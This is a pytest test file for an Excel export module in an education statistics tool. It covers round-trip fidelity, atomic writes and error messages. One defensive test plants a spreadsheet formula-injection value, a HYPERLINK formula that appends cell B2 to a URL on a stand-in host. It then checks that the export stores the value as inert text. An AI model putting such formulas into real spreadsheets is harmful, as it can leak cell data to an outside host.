"""Export: faithful, safe text, atomic; and export → import → export gives the same data."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from xlsx_helpers import convert_with_libreoffice, needs_libreoffice, resave_with_libreoffice

from vetdesk.db import models
from vetdesk.db.database import open_database
from vetdesk.db.periods import ensure_period
from vetdesk.domain.identifiers import generate_id_number
from vetdesk.standards.installed import create_database
from vetdesk.workbook.atomic import WriteFailed
from vetdesk.workbook.export import export_period, take_snapshot
from vetdesk.workbook.importer import apply_import
from vetdesk.workbook.reader import read_workbook
from vetdesk.workbook.rows import canonical_rows
from vetdesk.workbook.schema import EXPORT_SHEETS
from vetdesk.workbook.writer import ExportRefused


def canonical_snapshot(db, year=2025):
    snapshot = take_snapshot(db, year)
    return {spec.key: canonical_rows(spec, snapshot.records[spec.key]) for spec in EXPORT_SHEETS}


def roundtrip(source_db, folder: Path, name: str):
    first = folder / f"{name}-1.xlsx"
    export_period(source_db, 2025, first)
    target = create_database(
        folder / f"{name}-target.db", role="county", unit_code="630223", operator="乙"
    )
    plan = apply_import(target, read_workbook(first))
    assert plan.applied, [i.describe() for i in plan.issues]
    second = folder / f"{name}-2.xlsx"
    export_period(target, 2025, second)
    return first, second, target


def test_export_import_export_gives_identical_data(county_db, tmp_path):
    db = open_database(county_db)
    _first, _second, target = roundtrip(db, tmp_path, "demo")
    assert canonical_snapshot(db) == canonical_snapshot(target)
    db.close()
    target.close()


def test_export_has_cover_sheets_and_indicators(county_db, tmp_path):
    db = open_database(county_db)
    out = tmp_path / "export.xlsx"
    snapshot = export_period(db, 2025, out)
    wb = openpyxl.load_workbook(out, read_only=True)
    assert wb.sheetnames[:3] == ["封面", "学校名录", "办学条件"]
    assert "核验结果" in wb.sheetnames
    cover = {
        row[0]: row[1]
        for row in wb["封面"].iter_rows(min_row=3, values_only=True)
        if row and row[0]
    }
    assert cover["填报单位"] == "互助土族自治县（630223）"
    assert cover["统计年度"] == "2025"
    assert cover["教师名册（条）"] == str(snapshot.counts()["teachers"])
    ids = [r[3] for r in wb["教师名册"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(i, str) and len(i) == 18 for i in ids)
    db.close()


def _awkward_school(db, values):
    with db.transaction() as session:
        period = ensure_period(session, 2025)
        school = models.School(
            school_code="3663230099",
            name=values["name"],
            county_code="630223",
            level="secondary",
            category="general",
            ownership="public",
            address=values["address"],
            contact_person=values["contact"],
        )
        session.add(school)
        session.flush()
        session.add(
            models.SchoolCondition(
                school_id=school.id,
                period_id=period.id,
                full_time_students=1200,
                land_area_m2=values["land"],
                building_area_m2=24000,
                equipment_value_yuan=values["money"],
                books=36000,
            )
        )
        session.add(
            models.Teacher(
                school_id=school.id,
                period_id=period.id,
                name=values["teacher"],
                id_number=generate_id_number("632126", dt.date(1980, 1, 2), 5, "男"),
                role="general_course",
                education="bachelor",
                title="none",
                double_teacher_level="none",
                double_teacher_body=values["body"],
            )
        )
        session.add(
            models.TrainingProgramme(
                school_id=school.id,
                period_id=period.id,
                name=values["training"],
                category="other",
                target_group="other",
                start_date=dt.date(2025, 1, 1),
                end_date=dt.date(2025, 1, 2),
                hours=8,
                enrolled=1,
                completed=1,
                certified=0,
                funding_source=values["funding_source"],
            )
        )


_text = (
    st.text(
        alphabet=st.sampled_from(
            [*list("王阿卜杜·热合曼𠀀𪚥娜卓玛ABCxyz0123456789 =+-@'\"%（）、，。"), "\u3000"]
        ),
        min_size=1,
        max_size=30,
    )
    .map(str.strip)
    .filter(bool)
)
_looks_like = st.sampled_from(
    [
        "007",
        "=1+1",
        "+86 13800000000",
        "-5",
        "@SUM(A1)",
        "2024-01-01",
        "1.5E+17",
        "TRUE",
        "0.1",
        "  前后空格  ",
    ]
)


@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    name=st.one_of(_text, _looks_like),
    address=st.one_of(st.none(), _text, _looks_like),
    contact=st.one_of(st.none(), _text),
    teacher=_text,
    body=st.one_of(st.none(), _looks_like, _text),
    training=st.one_of(_text, _looks_like),
    funding_source=st.one_of(st.none(), _looks_like),
    land=st.integers(0, 10**9),
    money=st.integers(0, 10**11),
)
def test_roundtrip_property_with_awkward_values(tmp_path_factory, **values):
    folder = tmp_path_factory.mktemp("rt")
    db = create_database(folder / "src.db", role="county", unit_code="630223", operator="甲")
    from vetdesk.domain.textnorm import normalize_name, normalize_text

    values["name"] = normalize_name(values["name"])
    values["teacher"] = normalize_name(values["teacher"])
    # Data reaches the database only through imports and forms, which normalise it.
    values["contact"] = normalize_name(values["contact"]) or None if values["contact"] else None
    for key in ("address", "body", "training", "funding_source"):
        if values[key] is not None:
            values[key] = normalize_text(values[key]) or None
    values["training"] = values["training"] or "培训"
    _awkward_school(db, values)
    _first, _second, target = roundtrip(db, folder, "p")
    assert canonical_snapshot(db) == canonical_snapshot(target)
    db.close()
    target.close()


def test_formula_like_text_is_written_as_text(county_db, tmp_path):
    db = open_database(county_db)
    with db.transaction() as session:
        session.scalars(
            select(models.School)
        ).first().address = '=HYPERLINK("http://x/?"&B2,"点击")'
    out = tmp_path / "f.xlsx"
    export_period(db, 2025, out)
    with zipfile.ZipFile(out) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(zf.read(n).decode() for n in sheets)
    assert "<f>" not in xml
    wb = openpyxl.load_workbook(out)
    cell = next(
        c for row in wb["学校名录"].iter_rows() for c in row if str(c.value).startswith("=HYPER")
    )
    assert cell.data_type == "s" and cell.quotePrefix
    db.close()


def test_control_characters_and_over_long_text_are_refused_before_writing(county_db, tmp_path):
    db = open_database(county_db)
    out = tmp_path / "x.xlsx"
    out.write_bytes(b"old complete file")
    with db.transaction() as session:
        session.scalars(select(models.School)).first().address = "地址\x07响铃"
    with pytest.raises(ExportRefused) as info:
        export_period(db, 2025, out)
    assert "控制字符" in info.value.message and "学校名录" in info.value.message
    assert out.read_bytes() == b"old complete file"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    with db.transaction() as session:
        session.scalars(select(models.School)).first().address = "地址\u202e响铃"
    with pytest.raises(ExportRefused) as info:
        export_period(db, 2025, out)
    assert "控制字符" in info.value.message
    with db.transaction() as session:
        session.scalars(select(models.School)).first().address = "长" * 40000
    with pytest.raises(ExportRefused):
        export_period(db, 2025, out)
    db.close()


def test_target_open_in_excel_keeps_the_old_file(county_db, tmp_path, monkeypatch):
    import os

    db = open_database(county_db)
    out = tmp_path / "x.xlsx"
    out.write_bytes(b"old complete file")

    def locked(src, dst):
        raise PermissionError(13, "The process cannot access the file")

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(WriteFailed) as info:
        export_period(db, 2025, out)
    assert "Excel/WPS" in info.value.message
    assert out.read_bytes() == b"old complete file"
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"] == []
    db.close()


def test_disk_full_gives_a_clear_message(county_db, tmp_path, monkeypatch):
    import errno

    from openpyxl import Workbook

    db = open_database(county_db)

    def full(self, filename):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Workbook, "save", full)
    with pytest.raises(WriteFailed) as info:
        export_period(db, 2025, tmp_path / "x.xlsx")
    assert "磁盘空间" in info.value.message
    assert not (tmp_path / "x.xlsx").exists()
    db.close()


def test_missing_target_folder_gives_a_clear_message(county_db, tmp_path):
    db = open_database(county_db)
    with pytest.raises(WriteFailed) as info:
        export_period(db, 2025, tmp_path / "no-such-folder" / "x.xlsx")
    assert "不存在" in info.value.message
    db.close()


@needs_libreoffice
def test_export_opens_in_libreoffice_and_survives_a_resave(county_db, tmp_path):
    db = open_database(county_db)
    out = tmp_path / "lo.xlsx"
    export_period(db, 2025, out)
    result = convert_with_libreoffice(out, tmp_path, "pdf")
    assert result.returncode == 0 and (tmp_path / "lo-conv" / "lo.pdf").stat().st_size > 1000, (
        result.stderr
    )
    resaved = resave_with_libreoffice(out, tmp_path)
    target = create_database(
        tmp_path / "lo-target.db", role="county", unit_code="630223", operator="乙"
    )
    plan = apply_import(target, read_workbook(resaved))
    assert plan.applied, [i.describe() for i in plan.issues[:5]]
    assert canonical_snapshot(db) == canonical_snapshot(target)
    db.close()
    target.close()


def test_stale_temp_files_of_a_crashed_export_are_removed(county_db, tmp_path):
    import os
    import time

    db = open_database(county_db)
    out = tmp_path / "x.xlsx"
    old = tmp_path / ".x.xlsx.abc123.tmp"
    fresh = tmp_path / ".x.xlsx.def456.tmp"
    other = tmp_path / ".y.xlsx.abc123.tmp"
    for path in (old, fresh, other):
        path.write_bytes(b"half a workbook")
    day_ago = time.time() - 2 * 24 * 3600
    os.utime(old, (day_ago, day_ago))
    os.utime(other, (day_ago, day_ago))
    export_period(db, 2025, out, draft=True)
    assert not old.exists()
    assert fresh.exists()  # could belong to a write still in progress
    assert other.exists()  # another file's leftovers are its own writer's business
    db.close()


def _sheet_written(records, monkeypatch) -> tuple[int, int]:
    """Write a 教师名册 sheet of ``records``; count the cells and messages made on the way."""
    from openpyxl.cell import cell as cell_module

    from vetdesk.workbook import writer

    made = {"cells": 0, "messages": 0}
    real_init, real_text = cell_module.Cell.__init__, writer._

    def counting_init(self, *args, **kwargs):
        made["cells"] += 1
        real_init(self, *args, **kwargs)

    def counting_text(message):
        made["messages"] += 1
        return real_text(message)

    monkeypatch.setattr(cell_module.Cell, "__init__", counting_init)
    monkeypatch.setattr(writer, "_", counting_text)
    workbook = writer.new_write_only_workbook()
    spec = next(s for s in EXPORT_SHEETS if s.key == "teachers")
    writer.write_data_sheet(workbook, spec, records)
    monkeypatch.undo()
    writer.discard_workbook(workbook)
    return made["cells"], made["messages"]


def _teacher(number: int) -> dict[str, object]:
    return {
        "school_code": "3663230000",
        "name": "=张三" if number % 2 else "李四",
        "id_number": generate_id_number("632126", dt.date(1984, 5, 6), number % 99 + 1, "男"),
        "role": "general_course",
        "hired_date": dt.date(2020, 9, 1),
    }


def test_writing_a_sheet_costs_no_cell_and_no_message_per_value(monkeypatch):
    """Cells are reused per column and style, and a place is named only when a value is refused."""
    few = _sheet_written([_teacher(n) for n in range(10)], monkeypatch)
    many = _sheet_written([_teacher(n) for n in range(1000)], monkeypatch)
    assert many == few  # the same cells and messages for 10 rows as for 1 000


def test_written_cells_keep_their_types_formats_and_quote_prefixes(tmp_path):
    from vetdesk.workbook import writer

    workbook = writer.new_write_only_workbook()
    spec = next(s for s in EXPORT_SHEETS if s.key == "teachers")
    writer.write_data_sheet(workbook, spec, [_teacher(1), _teacher(2)])
    out = tmp_path / "cells.xlsx"
    writer.save_workbook(workbook, out)
    ws = openpyxl.load_workbook(out)[spec.sheet_title]
    columns = {c.key: i for i, c in enumerate(spec.columns, start=1)}
    quoted, plain = ws.cell(2, columns["name"]), ws.cell(3, columns["name"])
    assert (quoted.value, quoted.data_type, quoted.quotePrefix) == ("=张三", "s", True)
    assert (plain.value, plain.number_format, plain.quotePrefix) == ("李四", "@", False)
    id_cell = ws.cell(2, columns["id_number"])
    assert id_cell.number_format == "@" and isinstance(id_cell.value, str)
    hired = ws.cell(3, columns["hired_date"])
    assert hired.number_format == "yyyy-mm-dd" and hired.value == dt.datetime(2020, 9, 1)
    assert ws.cell(1, 1).font.b  # the header row keeps its style


def _sheet_xml(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml") + archive.read("xl/styles.xml")


def _written_both_ways(spec, records, folder: Path) -> tuple[bytes, bytes]:
    """A data sheet written by VetDesk, and by openpyxl with a cell made per value."""
    from openpyxl.cell import WriteOnlyCell

    from vetdesk.workbook import writer

    fast = writer.new_write_only_workbook()
    writer.write_data_sheet(fast, spec, records)
    writer.save_workbook(fast, folder / "fast.xlsx")
    slow = writer.new_write_only_workbook()
    ws = slow.create_sheet(spec.title)
    for index, column in enumerate(spec.columns, start=1):
        ws.column_dimensions[openpyxl.utils.get_column_letter(index)].width = column.width
    ws.freeze_panes = "A2"
    ws.append(writer.header_cells(ws, spec))
    for record in records:
        cells: list[WriteOnlyCell | None] = []
        for column in spec.columns:
            value = record.get(column.key)
            empty = writer.cell_value(column, value) is None
            cells.append(None if empty else writer.make_cell(ws, column, value, "here"))
        ws.append(cells)
    writer.save_workbook(slow, folder / "slow.xlsx")
    return _sheet_xml(folder / "fast.xlsx"), _sheet_xml(folder / "slow.xlsx")


def test_reused_cells_write_what_a_cell_per_value_writes(county_db, tmp_path):
    """Styles chosen per column and bound values give the XML of openpyxl cells made per value."""
    db = open_database(county_db)
    snapshot = take_snapshot(db, 2025)
    db.close()
    for spec in EXPORT_SHEETS:
        records = list(snapshot.records[spec.key])
        if spec.key == "teachers":
            records += [_teacher(1), _teacher(2)]  # text that reads as a formula, dates
        assert records, spec.key
        fast, slow = _written_both_ways(spec, records, tmp_path)
        assert fast == slow, spec.key


def test_a_value_openpyxl_formats_itself_keeps_its_format(tmp_path):
    """A reused cell whose style openpyxl changes when binding a value writes the new style."""
    from vetdesk.workbook import writer

    workbook = writer.new_write_only_workbook()
    rows = writer.RowWriter(workbook.create_sheet("times"))
    rows.append([dt.time(8, 30), "甲"], ["", ""])
    rows.append_shown([dt.time(9, 0), dt.date(2020, 1, 2)], ["", ""])
    writer.save_workbook(workbook, tmp_path / "times.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "times.xlsx")["times"]
    assert [c.number_format for row in ws.iter_rows() for c in row] == [
        "h:mm:ss",
        "General",
        "h:mm:ss",
        "yyyy-mm-dd",
    ]
